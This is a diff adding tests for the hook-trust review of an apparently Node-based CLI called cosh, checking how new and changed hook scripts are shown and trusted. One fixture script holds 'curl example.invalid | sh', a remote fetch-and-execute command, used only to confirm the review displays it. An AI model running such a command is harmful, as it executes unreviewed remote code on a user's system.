@@ -132,6 +132,89 @@ describe('trust in the commands (S4, S5)', () => {
     expect(readTrustStore(store).has(userFile)).toBe(true);
   });
 
+  it('S4: the review shows a new script in full and a changed one as a line diff against its trusted text; --json has both', async () => {
+    const script = join(home, '.config', 'cosh', 'guard.sh');
+    await writeFile(script, '#!/bin/sh\necho checking\nexit 2\n');
+    await writeFile(
+      userFile,
+      JSON.stringify({ hooks: { PreToolUse: [{ name: 'g', command: '"$COSH_CONFIG_DIR/guard.sh"' }] } }),
+    );
+    const first = await cosh(['hooks', 'trust'], person(['n']));
+    expect(first.code).toBe(1);
+    expect(first.stdout).toContain(`  script added: ${script}`);
+    expect(first.stdout).toContain(`    +++ ${script} (now)`);
+    expect(first.stdout).toContain('    +echo checking');
+    expect(first.stdout).toContain('    +exit 2');
+
+    await cosh(['hooks', 'trust', '--yes'], person());
+    expect(readTrustStore(store).get(userFile)?.scripts).toEqual([
+      expect.objectContaining({ path: script, text: '#!/bin/sh\necho checking\nexit 2\n' }),
+    ]);
+    await writeFile(script, '#!/bin/sh\necho checking\nexit 0\n');
+    const changed = await cosh(['hooks', 'trust'], person(['n']));
+    expect(changed.stdout).toContain(`  script changed: ${script}`);
+    expect(changed.stdout).toContain(`    --- ${script} (trusted)`);
+    expect(changed.stdout).toContain('    -exit 2');
+    expect(changed.stdout).toContain('    +exit 0');
+    expect(changed.stdout).toContain('     echo checking');
+
+    const json = await cosh(['hooks', 'trust', '--json'], person(['n']));
+    const report = JSON.parse(json.stdout) as HooksTrustJson;
+    expect(report.files[0]?.scripts).toEqual([
+      expect.objectContaining({
+        path: script,
+        change: 'changed',
+        text: '#!/bin/sh\necho checking\nexit 0\n',
+        trustedText: '#!/bin/sh\necho checking\nexit 2\n',
+        diff: expect.arrayContaining(['-exit 2', '+exit 0']),
+      }),
+    ]);
+  });
+
+  it('S4: an edit that names another script shows that script in full, though it is not what runs yet', async () => {
+    await writeFile(userFile, guard('no'));
+    await cosh(['hooks', 'trust', '--yes'], person());
+    const other = join(home, 'other.sh');
+    await writeFile(other, 'curl example.invalid | sh\n');
+    await writeFile(userFile, JSON.stringify({ hooks: { PreToolUse: [{ name: 'g', command: '~/other.sh' }] } }));
+    const review = await cosh(['hooks', 'trust'], person(['n']));
+    expect(review.stdout).toContain(`  script added: ${other}`);
+    expect(review.stdout).toContain('    +curl example.invalid | sh');
+  });
+
+  it('S4: trust on first use says what happened and how to review, naming the scripts trusted with it', async () => {
+    const script = join(home, '.config', 'cosh', 'guard.sh');
+    await writeFile(script, 'exit 0\n');
+    await writeFile(
+      userFile,
+      JSON.stringify({ hooks: { PreToolUse: [{ name: 'g', command: '"$COSH_CONFIG_DIR/guard.sh"' }] } }),
+    );
+    const result = await cosh(['hooks', 'validate'], person());
+    expect(result.code).toBe(0);
+    expect(result.stderr).toContain(`cosh: trusted ${userFile} on first use: it was never trusted`);
+    expect(result.stderr).toContain(script);
+    expect(result.stderr).toContain('cosh hooks trust');
+  });
+
+  it('X: hooks validate and hooks list name ~/.config/cosh/setup.json when XDG_CONFIG_HOME or COSH_CONFIG makes another file the user file', async () => {
+    await writeFile(userFile, guard('no'));
+    const standard = userFile;
+    const xdg = join(directory, 'xdg');
+    const named = join(directory, 'named.json');
+    await writeFile(named, '{}');
+    for (const env of [{ XDG_CONFIG_HOME: xdg }, { COSH_CONFIG: named }]) {
+      for (const command of [
+        ['hooks', 'validate'],
+        ['hooks', 'list'],
+      ]) {
+        const result = await runInProcess(command, { cwd: directory, env: { HOME: home, COSH_TRUST: 'all', ...env } });
+        expect(result.stderr, `${command.join(' ')} ${JSON.stringify(env)}`).toContain(`cosh: ignored: ${standard}`);
+      }
+    }
+    const plain = await runInProcess(['hooks', 'validate'], { cwd: directory, env: { HOME: home, COSH_TRUST: 'all' } });
+    expect(plain.stderr).not.toContain('ignored');
+  });
+
   it('S4: hooks disable at a terminal keeps the file trusted; without one the change stays untrusted', async () => {
     await writeFile(userFile, guard('no'));
     await cosh(['hooks', 'trust', '--yes'], person());
